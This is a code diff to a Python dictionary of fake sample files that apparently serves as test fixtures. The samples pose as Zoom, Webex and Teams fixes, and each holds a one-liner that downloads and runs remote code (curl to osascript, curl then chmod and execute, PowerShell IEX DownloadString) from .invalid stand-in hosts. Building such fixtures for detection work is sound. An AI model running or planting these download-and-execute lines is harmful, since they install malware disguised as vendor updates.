@@ -31,13 +31,13 @@ FAKES: dict[str, bytes] = {
         + 'do shell script "curl -fsSL https://us05web-zoom.invalid/sdk/update | osascript"\n'
     ).encode(),
     "Webex_Audio_Fix.command": (
-        "#!/bin/zsh\n# Webex audio driver fix\n"
-        "curl -fsSL https://webex-fix.invalid/a -o /tmp/.wbx && chmod +x /tmp/.wbx && /tmp/.wbx\n"
-    ).encode(),
+        b"#!/bin/zsh\n# Webex audio driver fix\n"
+        b"curl -fsSL https://webex-fix.invalid/a -o /tmp/.wbx && chmod +x /tmp/.wbx && /tmp/.wbx\n"
+    ),
     "Teams_Camera_Update.ps1": (
-        "# Microsoft Teams camera update\n"
-        "IEX (New-Object Net.WebClient).DownloadString('https://teams-install.invalid/fix.ps1')\n"
-    ).encode(),
+        b"# Microsoft Teams camera update\n"
+        b"IEX (New-Object Net.WebClient).DownloadString('https://teams-install.invalid/fix.ps1')\n"
+    ),
 }
 
 
